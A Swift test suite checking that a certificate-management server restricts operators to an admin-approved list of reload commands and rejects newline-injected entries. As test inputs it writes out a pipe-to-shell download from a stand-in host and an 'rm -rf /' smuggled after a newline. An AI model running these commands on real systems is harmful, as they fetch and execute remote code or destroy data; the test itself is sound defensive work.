import Foundation
import Testing
import UnityTestSupport
import Vapor
@testable import UnityApp

/// A deployment's reload command runs as a shell command on the managed server, so operators choose
/// it from a list admins keep (Settings); only admins may type any command.
@Suite struct ReloadCommandTests {
    @Test func operatorsChooseReloadCommandsAdminsAllowed() async throws {
        try await withUnityApp { app in
            let client = TestClient(app)
            let admin = try await client.login("admin", TestClient.adminPassword)
            let operatorToken = try await client.user(.operator, adminToken: admin).token
            let viewer = try await client.user(.viewer, adminToken: admin).token
            let keyID = try #require(try await client.send(.POST, "/api/v1/ssh-keys", token: admin,
                                                           json: ["name": "k", "type": "ed25519"]).json["id"] as? String)
            // Nothing listens on port 1: a deploy that passes validation fails at the connection.
            let serverID = try #require(try await client.send(.POST, "/api/v1/servers", token: admin, json: [
                "name": "web", "address": "127.0.0.1", "port": 1, "username": "root", "ssh_key_id": keyID]).json["id"] as? String)
            let certID = try #require(try await client.send(.POST, "/api/v1/certificates/issue", token: admin,
                                                            json: ["dns_names": ["web.home.arpa"]]).json["id"] as? String)
            func deploy(_ token: String, _ command: String) async throws -> TestResponse {
                try await client.send(.POST, "/api/v1/certificates/\(certID)/deploy", token: token, json: [
                    "server_id": serverID, "certificate_path": "/tmp/unity-reload-test.crt", "key_path": "/tmp/unity-reload-test.key",
                    "reload_command": command, "verify_port": 443])
            }

            let settings = try await client.send(.GET, "/api/v1/settings", token: admin)
            #expect((settings.json["certificate_reload_commands"] as? [String])?.contains("systemctl reload nginx") == true, "\(settings.body)")

            let listed = try await client.send(.GET, "/api/v1/certificates/reload-commands", token: viewer)
            #expect(listed.status == .ok && (listed.json["commands"] as? [String])?.contains("systemctl reload nginx") == true, "\(listed.body)")
            let typed = try await deploy(operatorToken, "curl -s http://evil.example/x | sh")
            #expect(typed.status == .unprocessableEntity && typed.errorField == "reload_command", "\(typed.body)")
            #expect(typed.errorMessage?.contains("systemctl reload nginx") == true, "the message lists what may be chosen")
            #expect(try await client.send(.GET, "/api/v1/certificates/\(certID)/deployments", token: admin).jsonArray.isEmpty,
                    "a refused deploy is not remembered")

            let chosen = try await deploy(operatorToken, "systemctl reload nginx")
            #expect(chosen.errorField != "reload_command", "\(chosen.body)")
            let byAdmin = try await deploy(admin, "kill -HUP $(cat /run/custom.pid)")
            #expect(byAdmin.errorField != "reload_command", "\(byAdmin.body)")

            // Admins change the list; operators may then choose the new entry and no longer the removed ones.
            #expect(try await client.send(.PATCH, "/api/v1/settings", token: operatorToken,
                                          json: ["certificate_reload_commands": ["x"]]).status == .forbidden)
            let bad = try await client.send(.PATCH, "/api/v1/settings", token: admin,
                                            json: ["certificate_reload_commands": ["systemctl reload nginx\nrm -rf /"]])
            #expect(bad.status == .unprocessableEntity && bad.errorField == "certificate_reload_commands", "\(bad.body)")
            let saved = try await client.send(.PATCH, "/api/v1/settings", token: admin,
                                              json: ["certificate_reload_commands": [" systemctl reload custom-proxy ", "systemctl reload custom-proxy", ""]])
            #expect(saved.json["certificate_reload_commands"] as? [String] == ["systemctl reload custom-proxy"], "\(saved.body)")
            #expect(try await deploy(operatorToken, "systemctl reload custom-proxy").errorField != "reload_command")
            #expect(try await deploy(operatorToken, "systemctl reload nginx").errorField == "reload_command")
            #expect(try await client.send(.GET, "/api/v1/settings", token: viewer).status == .forbidden)
        }
    }
}
